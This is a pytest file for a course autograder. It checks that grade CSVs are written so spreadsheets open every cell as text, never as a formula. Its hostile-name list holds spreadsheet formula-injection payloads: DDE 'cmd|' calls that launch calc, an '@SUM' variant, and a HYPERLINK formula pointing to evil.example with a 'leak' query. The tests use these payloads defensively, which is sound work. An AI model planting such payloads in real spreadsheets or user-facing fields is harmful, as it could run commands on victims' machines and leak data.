"""Every CSV file the grader writes opens in a spreadsheet as text, never as formulas."""
import csv
import re
from pathlib import Path

import pytest

import autograder
from autograder.results import COLUMNS, NotebookResult, read_csv, write_csv
from autograder.spreadsheet import FORMULA_STARTS, as_text, write_rows
from course import FIRST

# Display names an attacker can give themselves on Moodle; the folder names of
# "download all" carry them.
HOSTILE_NAMES = ["=2+5+cmd|' -C calc'!A0", '+HYPERLINK("https://evil.example/?leak","open")',
                 "@SUM(1+1)cmd", "-2+3+cmd|' /C calc'!A0", "\r=1+1"]


def csv_cells(path: Path) -> list:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def formula_cells(path: Path) -> list:
    """The cells a spreadsheet would run, split at ',' and also at ';' and tab (other locales)."""
    return [part for cell in csv_cells(path) for part in re.split(r"[;\t]", cell)
            if part.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_formula_becomes_text_and_stays_readable(name):
    assert as_text(name) == "'" + name


def test_a_formula_after_another_locale_separator_becomes_text():
    assert as_text("\t=1+1") == "'\t'=1+1"
    assert as_text("a/1_numpy.ipynb;=1+1/2_cupy.ipynb") == "a/1_numpy.ipynb;'=1+1/2_cupy.ipynb"
    assert as_text("a\t@SUM(1)") == "a\t'@SUM(1)"


@pytest.mark.parametrize("cell", ["Ada_Lovelace_1234567", "15", "7.5", "0", "", "a - b", "x=1",
                                  "Ada Lovelace (she/her)", "1_numpy.ipynb"])
def test_plain_text_and_numbers_are_unchanged(cell):
    assert as_text(cell) == cell


def test_numbers_given_as_numbers_pass_through():
    assert [as_text(x) for x in (15, -1, 2.5, None)] == [15, -1, 2.5, None]


def test_grades_csv_keeps_numbers_and_makes_names_text(tmp_path):
    graded = NotebookResult("ada", FIRST, "1_numpy", "graded", score=15.0, max_score=15.0,
                            seconds=2.04, notes=["=1+1 the cell crashed", "-x"])
    failed = NotebookResult("=evil", FIRST, "2_cupy", "@failed", notes=["+1"])
    path = tmp_path / "grades.csv"

    write_csv([graded, failed], path)

    rows = read_csv(path)
    assert [rows[0][k] for k in ("score", "max_score", "seconds")] == ["15", "15", "2.0"]
    assert rows[0]["notes"] == "'=1+1 the cell crashed | -x"
    assert [rows[1][k] for k in ("student", "status", "notes")] == ["'=evil", "'@failed", "'+1"]
    assert not formula_cells(path)


def test_clean_rows_are_written_byte_for_byte_as_plain_csv(tmp_path):
    """Shards and single runs write the same bytes as before for ordinary names."""
    rows = [["ada", FIRST, "1_numpy", "15", "15", "graded", "2.0", ""],
            ["bob, jr", FIRST, "2_cupy", "", "", "needs GPU", "", 'a "note"']]
    path, plain = tmp_path / "safe.csv", tmp_path / "plain.csv"
    write_rows(path, COLUMNS, rows)
    with open(plain, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([COLUMNS] + rows)
    assert path.read_bytes() == plain.read_bytes()


def test_every_csv_writer_of_the_grader_goes_through_the_shared_helper():
    package = Path(autograder.__file__).parent
    writers = [f"{p.name}:{n}" for p in sorted(package.rglob("*.py")) if p.name != "spreadsheet.py"
               for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
               if re.search(r"csv\.(writer|DictWriter)\b", line)]
    assert writers == [], "write CSV files with autograder.spreadsheet.write_rows"
